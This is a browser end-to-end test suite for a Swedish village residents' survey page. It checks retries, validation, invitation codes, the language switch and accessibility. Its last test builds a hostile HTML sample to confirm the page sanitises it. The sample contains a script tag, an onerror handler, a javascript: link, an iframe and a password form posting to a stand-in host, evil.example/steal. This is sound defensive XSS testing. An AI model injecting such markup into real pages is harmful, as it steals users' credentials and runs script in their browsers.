// The residents' survey page in a real browser: answering start to finish on a phone and a
// desktop, retries that never store twice, the server's objections at the question, the full
// pages (unknown, closed, invalid or used code, thanks), the English switch, axe and screenshots.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import type { LocalServer } from '../../functions/local/start.ts';
import { ADMIN_TOKEN, axeViolations, demoIds, launchBrowser, screenshot, startServer } from './harness.ts';

const PHONE: BrowserContextOptions = {
  viewport: { width: 360, height: 740 },
  isMobile: true,
  hasTouch: true,
  deviceScaleFactor: 2,
};
const DESKTOP: BrowserContextOptions = { viewport: { width: 1280, height: 900 } };
/** Generous: the browser tests of every page may run side by side. */
const TEST_TIMEOUT = 90_000;

let server: LocalServer;
let browser: Browser;
let ids: { projectId: string; baselineId: string; followupId: string };
let questionnaireId = '';
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
  ids = await demoIds(server);
  const project = await admin('GET', `/api/projects/${ids.projectId}`);
  questionnaireId = project.questionnaires[0].id;
}, 120_000);
afterAll(async () => {
  for (const context of contexts) await context.close().catch(() => {});
  await browser?.close();
  await server?.close();
});

/** A call to the API as the administrator; its JSON, loosely typed for the tests. */
async function admin(method: string, path: string, body?: unknown): Promise<any> {
  const response = await fetch(`${server.url}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${ADMIN_TOKEN}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const json = await response.json();
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${JSON.stringify(json)}`);
  return json;
}

async function responsesIn(roundId: string): Promise<number> {
  return (await admin('GET', `/api/rounds/${roundId}`)).responses;
}

async function inviteRound(count: number): Promise<{ roundId: string; codes: string[] }> {
  const { id: roundId } = await admin('POST', `/api/projects/${ids.projectId}/rounds`, {
    kind: 'followup',
    name: 'Inbjudna',
    questionnaireId,
    access: 'invite',
  });
  const { codes } = await admin('POST', `/api/rounds/${roundId}/invitations`, { count });
  return { roundId, codes };
}

async function newPage(options: BrowserContextOptions = DESKTOP): Promise<Page> {
  const context = await browser.newContext(options);
  contexts.push(context);
  context.setDefaultTimeout(8_000);
  const page = await context.newPage();
  page.on('pageerror', (error) => {
    throw error;
  });
  return page;
}

async function open(page: Page, path: string): Promise<void> {
  await page.goto(`${server.url}${path}`);
  await page.locator('main h1').first().waitFor();
}

const heading = (page: Page) => page.locator('main h1').first();
const rate = (page: Page, name: string, value: string | number) =>
  page.locator(`[data-name="${name}"] label:has(input[value="${value}"])`).click();
const choose = (page: Page, name: string, text: string) =>
  page.locator(`[data-name="${name}"]`).getByText(text, { exact: true }).click();
// Strings, not functions: this file is type-checked without the DOM library.
const focusedText = (page: Page) => page.evaluate<string | null | undefined>('document.activeElement?.textContent');
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });

/** Answers the demo questionnaire's four pages and presses Slutför / Complete. */
async function answerAll(
  page: Page,
  options: { area?: string | null; lang?: 'sv' | 'en'; complete?: boolean } = {},
): Promise<void> {
  const sv = (options.lang ?? 'sv') === 'sv';
  await rate(page, 'q_nki_overall', 8);
  await rate(page, 'q_nki_expect', 7);
  await rate(page, 'q_nki_ideal', 'dk');
  await button(page, sv ? 'Nästa' : 'Next').click();
  await rate(page, 'q_pride_village', 4);
  await rate(page, 'q_future', 6);
  await button(page, sv ? 'Nästa' : 'Next').click();
  await choose(page, 'q_aware_project', sv ? 'Ja' : 'Yes');
  await rate(page, 'q_engage', 5);
  await page.locator('[data-name="q_idea"] textarea').fill(sv ? 'En badplats vid sjön' : 'A bathing place');
  await button(page, sv ? 'Nästa' : 'Next').click();
  if (options.area !== null) {
    await page.locator('[data-name="area"] .sd-dropdown').click();
    await page.getByRole('option', { name: options.area ?? 'Bottna', exact: true }).click();
  }
  await choose(page, 'age_band', sv ? '30-49 år' : '30-49 years');
  await choose(page, 'gender', sv ? 'Vill inte uppge' : 'Prefer not to say');
  if (options.complete !== false) await button(page, sv ? 'Slutför' : 'Complete').click();
}

async function expectNoViolations(page: Page): Promise<void> {
  expect(await axeViolations(page)).toEqual([]);
}

describe('answering a survey', () => {
  it.each([
    ['phone', PHONE],
    ['desktop', DESKTOP],
  ] as const)(
    'start to finish on a %s: the thank-you page, and one more response stored',
    async (name, options) => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(options);
      const elsewhere: string[] = [];
      const problems: string[] = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(`${server.url}/`) && !request.url().startsWith('data:'))
          elsewhere.push(request.url());
      });
      page.on('console', (message) => {
        if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text());
      });
      await open(page, `/s/${ids.followupId}`);
      await expect.poll(() => heading(page).textContent()).toBe('Hur är det att bo här?');
      expect(await page.locator('.project-name').textContent()).toBe('Demo: Söderköpings landsbygd (påhittade data)');
      expect(await page.locator('.notice.demo').textContent()).toContain('påhittade demodata');
      expect(await page.getByRole('heading', { level: 2, name: 'Din bygd' }).isVisible()).toBe(true);
      await screenshot(page, `survey-${name}`);
      await expectNoViolations(page);
      // The page fits the screen: nothing scrolls sideways.
      expect(await page.evaluate<boolean>('document.documentElement.scrollWidth <= window.innerWidth')).toBe(true);

      await answerAll(page, { complete: false });
      await screenshot(page, `survey-${name}-last-page`);
      await expectNoViolations(page);
      await button(page, 'Slutför').click();
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      await expect.poll(() => page.evaluate<string | undefined>('document.activeElement?.tagName')).toBe('H1');
      await screenshot(page, `survey-${name}-thanks`);
      await expectNoViolations(page);
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
      // Nothing from elsewhere, nothing the content security policy refused, no script errors.
      expect(elsewhere).toEqual([]);
      expect(problems).toEqual([]);
    },
    TEST_TIMEOUT,
  );

  it(
    'can be answered with the keyboard alone',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(DESKTOP);
      await open(page, `/s/${ids.followupId}`);
      await page.keyboard.press('Tab'); // skip link
      await page.keyboard.press('Tab'); // language switch
      expect(await focusedText(page)).toBe('In English');
      // Into the first rating: arrow keys move through its choices.
      await page.locator('[data-name="q_nki_overall"] input[value="1"]').focus();
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('ArrowRight');
      expect(await page.locator('[data-name="q_nki_overall"] input[value="3"]').isChecked()).toBe(true);
      await page.locator('.sd-navigation__next-btn').focus();
      await page.keyboard.press('Enter');
      await page.getByRole('heading', { level: 2, name: 'Stolthet och framtid' }).waitFor();
      for (let i = 0; i < 3; i++) {
        await page.locator('.sd-navigation__next-btn:visible, .sd-navigation__complete-btn:visible').first().focus();
        await page.keyboard.press('Enter');
      }
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );
});

describe('sending on a flaky network', () => {
  it(
    'retries with the same response id and stores the answers exactly once',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(PHONE);
      const bodies: { responseId: string }[] = [];
      await page.route('**/api/public/rounds/*/responses', async (route) => {
        bodies.push(JSON.parse(route.request().postData() ?? '{}'));
        if (bodies.length === 1) return route.abort('failed'); // lost on the way: never reached the server
        if (bodies.length === 2) {
          await route.fetch(); // reached the server and was stored, but the answer is lost
          return route.abort('connectionreset');
        }
        return route.continue();
      });
      await open(page, `/s/${ids.followupId}`);
      await answerAll(page);
      await expect.poll(() => heading(page).textContent(), { timeout: 15_000 }).toBe('Tack för dina svar!');
      expect(bodies).toHaveLength(3);
      expect(new Set(bodies.map((body) => body.responseId)).size).toBe(1);
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );

  it(
    'after every retry has failed: says so, keeps the answers, and "Försök igen" sends them',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(DESKTOP);
      await page.clock.install();
      let attempts = 0;
      await page.route('**/api/public/rounds/*/responses', (route) => {
        attempts++;
        return route.abort('internetdisconnected');
      });
      await open(page, `/s/${ids.followupId}`);
      await answerAll(page);
      await page.getByText('Skickar …').waitFor();
      await screenshot(page, 'survey-desktop-sending');
      // Six tries over about 15 seconds of (fake) time.
      for (let i = 0; i < 10 && attempts < 6; i++) await page.clock.runFor(5_000);
      await page.getByRole('heading', { name: 'Svaren kunde inte skickas' }).waitFor();
      expect(attempts).toBe(6);
      await screenshot(page, 'survey-desktop-send-failed');
      await expectNoViolations(page);
      await page.unroute('**/api/public/rounds/*/responses');
      // The answers are still there.
      expect(await page.locator('[data-name="age_band"] input[value="30-49"]').isChecked()).toBe(true);
      await button(page, 'Försök igen').click();
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );

  it(
    'keeps the answers and the response id over a reload, so a resend after a lost answer is recognised',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(DESKTOP);
      await page.clock.install();
      const ids_: string[] = [];
      await page.route('**/api/public/rounds/*/responses', async (route) => {
        ids_.push(JSON.parse(route.request().postData() ?? '{}').responseId);
        await route.fetch(); // stored, then the connection drops: the page never hears back
        return route.abort('connectionreset');
      });
      await open(page, `/s/${ids.followupId}`);
      await answerAll(page);
      await page.getByText('Skickar …').waitFor();
      await page.reload();
      await page.unroute('**/api/public/rounds/*/responses');
      await page.route('**/api/public/rounds/*/responses', (route) => {
        ids_.push(JSON.parse(route.request().postData() ?? '{}').responseId);
        return route.continue();
      });
      await heading(page).waitFor();
      // Back on the last page with the answers given.
      expect(await page.locator('[data-name="gender"] input[value="none"]').isChecked()).toBe(true);
      await button(page, 'Slutför').click();
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      expect(new Set(ids_).size).toBe(1);
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );
});

describe('a response already stored', () => {
  it(
    'a resend that differs from what arrived first is not stored again: the page says the answers have arrived',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(PHONE);
      let tries = 0;
      await page.route('**/api/public/rounds/*/responses', async (route) => {
        tries++;
        if (tries === 1) {
          await route.fetch(); // stored; the answer is lost
          return route.abort('connectionreset');
        }
        const body = JSON.parse(route.request().postData() ?? '{}');
        body.answers.q_nki_overall = 2; // the same id with other answers: the server refuses (409)
        return route.continue({ postData: JSON.stringify(body) });
      });
      await open(page, `/s/${ids.followupId}`);
      await answerAll(page);
      await expect.poll(() => heading(page).textContent(), { timeout: 15_000 }).toBe('Dina svar har redan kommit fram');
      await expectNoViolations(page);
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );
});

describe("the server's objections", () => {
  it(
    'are shown in Swedish at the question, on its page, with the answers kept',
    async () => {
      const before = await responsesIn(ids.followupId);
      const page = await newPage(PHONE);
      // The server sees an answer the form would never send.
      await page.route('**/api/public/rounds/*/responses', (route) => {
        const body = JSON.parse(route.request().postData() ?? '{}');
        body.answers.q_nki_overall = 11;
        body.answers.q_retired = 'x';
        return route.continue({ postData: JSON.stringify(body) });
      });
      await open(page, `/s/${ids.followupId}`);
      await answerAll(page);
      const question = page.locator('[data-name="q_nki_overall"]');
      await question.getByText('Värdet 11 ligger utanför skalan 1–10.').waitFor();
      expect(await question.getByText('Värdet 11 ligger utanför skalan 1–10.').isVisible()).toBe(true);
      expect(await page.getByRole('heading', { level: 2, name: 'Din bygd' }).isVisible()).toBe(true);
      expect(await page.getByRole('alert').filter({ hasText: 'Okänd fråga. (q_retired)' }).isVisible()).toBe(true);
      expect(await page.locator('[data-name="q_nki_overall"] input[value="8"]').isChecked()).toBe(true);
      await expect
        .poll(() =>
          page.evaluate<string | null | undefined>(
            `document.activeElement?.closest('[data-name]')?.getAttribute('data-name')`,
          ),
        )
        .toBe('q_nki_overall');
      await screenshot(page, 'survey-phone-server-error');
      await expectNoViolations(page);
      expect(await responsesIn(ids.followupId)).toBe(before);

      await page.unroute('**/api/public/rounds/*/responses');
      for (let i = 0; i < 3; i++) await button(page, 'Nästa').click();
      await button(page, 'Slutför').click();
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      expect(await responsesIn(ids.followupId)).toBe(before + 1);
    },
    TEST_TIMEOUT,
  );
});

/** An "rgb(...)"/"rgba(...)" colour's channels and alpha. */
function rgba(css: string): [number, number, number, number] {
  const [r = 0, g = 0, b = 0, a = 1] = (css.match(/[\d.]+/g) ?? []).map(Number);
  return [r, g, b, css.startsWith('rgba') ? a : 1];
}

/** A colour laid over an opaque backdrop (what the eye sees of a translucent one). */
function over(css: string, backdrop: string): string {
  const [r, g, b, a] = rgba(css);
  const [br, bg, bb] = rgba(backdrop);
  return `rgb(${r * a + br * (1 - a)}, ${g * a + bg * (1 - a)}, ${b * a + bb * (1 - a)})`;
}

/** WCAG 2's contrast ratio of two opaque colours. */
function contrast(one: string, other: string): number {
  const luminance = (css: string) => {
    const [r, g, b] = rgba(css).map((channel) => {
      const c = channel / 255;
      return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
    }) as [number, number, number];
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const [light, dark] = [luminance(one), luminance(other)].sort((a, b) => b - a) as [number, number];
  return (light + 0.05) / (dark + 0.05);
}

interface BoxColours {
  checked: boolean;
  error: boolean;
  focused: boolean;
  /** The box (decorator), laid over what is behind it. */
  box: string;
  /** The check mark's fill. */
  mark: string;
  /** The first opaque background behind the box. */
  behind: string;
}

/** The computed colours of each box of a checkbox question. */
const boxColours = (page: Page, name: string) =>
  page.evaluate<BoxColours[]>(`[...document.querySelectorAll('[data-name="${name}"] .sd-item')].map((item) => {
    const decorator = item.querySelector('.sd-item__decorator');
    let behind = 'rgb(255, 255, 255)';
    for (let node = decorator.parentElement; node; node = node.parentElement) {
      const colour = getComputedStyle(node).backgroundColor;
      if (colour !== 'transparent' && !/^rgba\\(.*, 0\\)$/.test(colour)) { behind = colour; break; }
    }
    const mark = item.querySelector('.sd-checkbox__svg use');
    return {
      checked: item.classList.contains('sd-item--checked'),
      error: item.classList.contains('sd-item--error'),
      focused: item.querySelector('input') === document.activeElement,
      box: getComputedStyle(decorator).backgroundColor,
      mark: mark ? getComputedStyle(mark).fill : '',
      behind,
    };
  })`);

describe('checked boxes after a refused answer', () => {
  it(
    'stay visibly checked in the error state: box and mark at 3:1 or more (WCAG 1.4.11), axe clean',
    async () => {
      const { survey, indicators, background } = await admin(
        'GET',
        `/api/projects/${ids.projectId}/questionnaires/${questionnaireId}`,
      );
      survey.pages[0].elements.push({
        type: 'checkbox',
        name: 'q_services',
        title: 'Vilka av byns tjänster använder du?',
        choices: [
          { value: 'shop', text: 'Affären' },
          { value: 'bus', text: 'Bussen' },
          { value: 'school', text: 'Skolan' },
          { value: 'library', text: 'Biblioteket' },
        ],
      });
      const { id: withBoxes } = await admin('POST', `/api/projects/${ids.projectId}/questionnaires`, {
        survey,
        indicators,
        background,
      });
      const { id: roundId } = await admin('POST', `/api/projects/${ids.projectId}/rounds`, {
        kind: 'followup',
        name: 'Med kryssrutor',
        questionnaireId: withBoxes,
        access: 'open',
      });
      const page = await newPage(PHONE);
      // The server sees a box the form does not have: it refuses the answer to that question.
      await page.route('**/api/public/rounds/*/responses', (route) => {
        const body = JSON.parse(route.request().postData() ?? '{}');
        body.answers.q_services = [...(body.answers.q_services ?? []), 'spaceport'];
        return route.continue({ postData: JSON.stringify(body) });
      });
      await open(page, `/s/${roundId}`);
      for (const text of ['Affären', 'Bussen', 'Skolan']) await choose(page, 'q_services', text);
      await answerAll(page);
      const question = page.locator('[data-name="q_services"]');
      await question.locator('.sd-item--error').first().waitFor();
      await question.getByRole('alert').first().waitFor();
      expect(await page.locator('[data-name="q_services"] input[value="shop"]').isChecked()).toBe(true);
      await screenshot(page, 'survey-phone-checkbox-error');
      await expectNoViolations(page); // also stops transitions, so colours are read at rest

      const check = (boxes: BoxColours[]) => {
        const checked = boxes.filter((box) => box.checked);
        const unchecked = boxes.filter((box) => !box.checked);
        expect(checked).toHaveLength(3);
        expect(boxes.every((box) => box.error)).toBe(true);
        for (const box of checked) {
          const seen = over(box.box, box.behind);
          // The mark on its box, always; the box on the page, unless it has the focus ring instead.
          expect(contrast(box.mark, seen), `mark on box ${JSON.stringify(box)}`).toBeGreaterThanOrEqual(3);
          if (!box.focused) {
            expect(contrast(seen, box.behind), `box on page ${JSON.stringify(box)}`).toBeGreaterThanOrEqual(3);
            for (const other of unchecked)
              expect(contrast(seen, over(other.box, other.behind)), 'checked against unchecked').toBeGreaterThanOrEqual(
                3,
              );
          }
        }
      };
      // As the page leaves it (the keyboard on the question's first box), and with the focus elsewhere.
      check(await boxColours(page, 'q_services'));
      await page.evaluate('document.activeElement?.blur()');
      const blurred = await boxColours(page, 'q_services');
      expect(blurred.some((box) => box.focused)).toBe(false);
      check(blurred);
    },
    TEST_TIMEOUT,
  );
});

describe('full pages', () => {
  it(
    'an unknown survey, and a closed one',
    async () => {
      const page = await newPage(PHONE);
      await open(page, '/s/no-such-round');
      expect(await heading(page).textContent()).toBe('Enkäten finns inte');
      await expectNoViolations(page);
      await button(page, 'In English').click();
      expect(await heading(page).textContent()).toBe('There is no such survey');
      await open(page, `/s/${ids.baselineId}`);
      expect(await heading(page).textContent()).toBe('The survey is closed');
      await button(page, 'På svenska').click();
      expect(await heading(page).textContent()).toBe('Enkäten är stängd');
      await screenshot(page, 'survey-phone-closed');
      await expectNoViolations(page);
    },
    TEST_TIMEOUT,
  );

  it(
    'an invited round: the code form, the code kept out of the address bar, a used code, an invalid code corrected',
    async () => {
      const { roundId, codes } = await inviteRound(2);
      const [first, second] = codes as [string, string];
      const page = await newPage(PHONE);

      // No code in the link: the form comes first.
      await open(page, `/s/${roundId}`);
      expect(await heading(page).textContent()).toBe('Ange din inbjudningskod');
      await screenshot(page, 'survey-phone-code');
      await expectNoViolations(page);
      await button(page, 'Fortsätt').click();
      expect(await page.getByText('Skriv koden från din inbjudan.').isVisible()).toBe(true);
      await expectNoViolations(page);
      await page.getByLabel('Inbjudningskod').fill(first.toLowerCase());
      await button(page, 'Fortsätt').click();
      await expect.poll(() => focusedText(page)).toBe('Hur är det att bo här?');
      await answerAll(page, { area: 'Mogata' });
      await expect.poll(() => heading(page).textContent()).toBe('Tack för dina svar!');
      expect((await admin('GET', `/api/rounds/${roundId}`)).responses).toBe(1);

      // The same code again, from the link: refused as used on entry, before any question.
      const again = await newPage(DESKTOP);
      await open(again, `/s/${roundId}?code=${first}`);
      expect(again.url()).not.toContain(first);
      expect(again.url()).not.toContain('code=');
      await expect.poll(() => again.locator('#code-error').textContent()).toContain('redan använts');
      expect(await heading(again).textContent()).toBe('Ange din inbjudningskod');
      await screenshot(again, 'survey-desktop-code-used');
      await expectNoViolations(again);

      // A mistyped code: refused on entry, and the corrected code opens the questions.
      const typo = await newPage(PHONE);
      await open(typo, `/s/${roundId}#code=AAAAA-BBBBB`); // a code in the fragment never reaches a server
      expect(typo.url()).not.toContain('AAAAA');
      await expect.poll(() => typo.locator('#code-error').textContent()).toContain('inte giltig');
      await expectNoViolations(typo);
      await typo.getByLabel('Inbjudningskod').fill(second);
      await button(typo, 'Fortsätt').click();
      await answerAll(typo);
      await expect.poll(() => heading(typo).textContent()).toBe('Tack för dina svar!');
      expect((await admin('GET', `/api/rounds/${roundId}`)).responses).toBe(2);
    },
    TEST_TIMEOUT,
  );
});

describe('a code checked on entry', () => {
  it(
    'a used code is refused before any question, with what to do and whom to contact, in Swedish and English',
    async () => {
      const { roundId, codes } = await inviteRound(2);
      const [used, fresh] = codes as [string, string];
      const stored = await fetch(`${server.url}/api/public/rounds/${roundId}/responses`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          code: used,
          answers: { q_nki_overall: 8, q_nki_expect: 7, q_nki_ideal: 6, area: 'mogata' },
        }),
      });
      expect(stored.status).toBe(201);
      const { project } = await admin('GET', `/api/projects/${ids.projectId}`);

      const page = await newPage(PHONE);
      await open(page, `/s/${roundId}#code=${used.toLowerCase()}`);
      const error = page.locator('#code-error');
      await expect
        .poll(() => error.textContent())
        .toBe(
          `Koden har redan använts för att svara. Skriv koden igen, eller kontakta den som skickade brevet (${project.name}).`,
        );
      expect(await heading(page).textContent()).toBe('Ange din inbjudningskod');
      // No question is shown, and the field to type the code again has the keyboard and the message.
      expect(await page.locator('.sd-question').count()).toBe(0);
      expect(await page.evaluate<string | undefined>('document.activeElement?.id')).toBe('code-input');
      expect(await page.getByLabel('Inbjudningskod').getAttribute('aria-describedby')).toContain('code-error');
      expect(await page.getByLabel('Inbjudningskod').getAttribute('aria-invalid')).toBe('true');
      await screenshot(page, 'survey-phone-code-used-on-entry');
      await expectNoViolations(page);

      // Typed again in English: a wrong code is refused too, then the right one opens the questions.
      await button(page, 'In English').click();
      await page.getByLabel('Invitation code').fill('AAAAA-BBBBB');
      await button(page, 'Continue').click();
      await expect
        .poll(() => error.textContent())
        .toBe(
          `The code is not valid for this survey. Type the code again, or contact whoever sent the letter (${project.name}).`,
        );
      expect(await page.locator('.sd-question').count()).toBe(0);
      await expectNoViolations(page);
      await page.getByLabel('Invitation code').fill(fresh);
      await button(page, 'Continue').click();
      await expect.poll(() => page.locator('[data-name="q_nki_overall"]').count()).toBe(1);
      expect(await responsesIn(roundId)).toBe(1);
    },
    TEST_TIMEOUT,
  );
});

describe('the English switch', () => {
  it(
    'switches in place without losing answers, and is remembered',
    async () => {
      const page = await newPage(DESKTOP);
      await open(page, `/s/${ids.followupId}`);
      await rate(page, 'q_nki_overall', 9);
      const toggle = button(page, 'In English');
      await toggle.focus();
      await page.keyboard.press('Enter');
      await expect.poll(() => heading(page).textContent()).toBe('What is it like to live here?');
      expect(await page.evaluate<string>('document.documentElement.lang')).toBe('en');
      expect(await focusedText(page)).toBe('På svenska');
      expect(await page.locator('[data-name="q_nki_overall"] input[value="9"]').isChecked()).toBe(true);
      expect(await page.getByText("Don't know").first().isVisible()).toBe(true);
      expect(await page.getByText('Page 1 of 4').isVisible()).toBe(true);
      expect(await button(page, 'Next').isVisible()).toBe(true);
      expect(await page.locator('.notice.demo').textContent()).toContain('generated demo data');
      await screenshot(page, 'survey-desktop-english');
      await expectNoViolations(page);
      await page.reload();
      await expect.poll(() => heading(page).textContent()).toBe('What is it like to live here?');
      expect(await page.locator('[data-name="q_nki_overall"] input[value="9"]').isChecked()).toBe(true);
    },
    TEST_TIMEOUT,
  );

  it(
    'asks the server for English messages',
    async () => {
      const page = await newPage(DESKTOP);
      await page.route('**/api/public/rounds/*/responses', (route) => {
        const body = JSON.parse(route.request().postData() ?? '{}');
        body.answers.q_nki_overall = 0;
        return route.continue({ postData: JSON.stringify(body) });
      });
      await open(page, `/s/${ids.followupId}`);
      await button(page, 'In English').click();
      await answerAll(page, { lang: 'en' });
      await page.locator('[data-name="q_nki_overall"]').getByText('The value 0 is outside the scale 1–10.').waitFor();
    },
    TEST_TIMEOUT,
  );
});

describe('markup in a questionnaire', () => {
  // What a careless or hostile questionnaire author could put in an html element.
  const MARKUP = [
    '<p class="intro"><strong>Välkommen</strong> till enkäten.',
    ' <a href="javascript:window.__injected = \'link\'">Läs mer</a>',
    ' <a href="https://example.org/om-projektet">Om projektet</a></p>',
    '<img src="x" onerror="window.__injected = \'img\'">',
    '<form action="https://evil.example/steal"><input name="password"><button>Skicka</button></form>',
    '<script>window.__injected = "script"</script>',
    '<iframe src="https://evil.example/"></iframe>',
    '<svg><script>window.__injected = "svg"</script></svg>',
  ].join('');

  it(
    'renders html elements without scripts, event handlers, javascript: links, forms or frames',
    async () => {
      const { survey, indicators, background } = await admin(
        'GET',
        `/api/projects/${ids.projectId}/questionnaires/${questionnaireId}`,
      );
      // An upload with active markup is refused (functions/core/questionnaire/markup.ts); the page
      // must still be safe with what it is served (a questionnaire stored before that check, or an
      // answer altered on the way), so the markup is put into the round's answer in the browser.
      const hostile = structuredClone(survey);
      hostile.pages[0].elements.unshift({ type: 'html', name: 'intro_html', html: MARKUP });
      const refused = await fetch(`${server.url}/api/projects/${ids.projectId}/questionnaires`, {
        method: 'POST',
        headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' },
        body: JSON.stringify({ survey: hostile, indicators, background }),
      });
      expect(refused.status).toBe(400);
      survey.pages[0].elements.unshift({ type: 'html', name: 'intro_html', html: '<p>Välkommen</p>' });
      const { id: withMarkup } = await admin('POST', `/api/projects/${ids.projectId}/questionnaires`, {
        survey,
        indicators,
        background,
      });
      const { id: roundId } = await admin('POST', `/api/projects/${ids.projectId}/rounds`, {
        kind: 'followup',
        name: 'Med inledning',
        questionnaireId: withMarkup,
        access: 'open',
      });
      const page = await newPage(DESKTOP);
      await page.route(`**/api/public/rounds/${roundId}*`, async (route) => {
        const response = await route.fetch();
        const body = await response.json();
        const served = body.survey ?? body.questionnaire?.survey ?? body;
        const intro = served.pages[0].elements.find((e: { name?: string }) => e.name === 'intro_html');
        intro.html = MARKUP;
        served.completedHtml = { default: MARKUP, sv: MARKUP, en: MARKUP };
        await route.fulfill({ response, json: body });
      });
      await open(page, `/s/${roundId}`);
      const intro = page.locator('[data-name="intro_html"]');
      await intro.getByText('Välkommen').waitFor();
      expect(await intro.locator('strong').textContent()).toBe('Välkommen');
      expect(await intro.locator('a').nth(1).getAttribute('href')).toBe('https://example.org/om-projektet');
      expect(await intro.getByText('Läs mer').getAttribute('href')).toBeNull();
      // Inside the html element (SurveyJS draws its own form and icons around it).
      const inIntro = (selector: string) =>
        page.evaluate<number>(
          `document.querySelector('[data-name="intro_html"]').querySelectorAll(${JSON.stringify(selector)}).length`,
        );
      for (const selector of [
        'form',
        'input',
        'button',
        'iframe',
        'script',
        'svg',
        '[onerror]',
        'a[href^="javascript:"]',
      ]) {
        expect(await inIntro(selector), selector).toBe(0);
      }
      await page.waitForTimeout(300); // an image's error event would have fired by now
      expect(await page.evaluate<unknown>('window.__injected')).toBeUndefined();
      await screenshot(page, 'survey-desktop-markup');
    },
    TEST_TIMEOUT,
  );
});
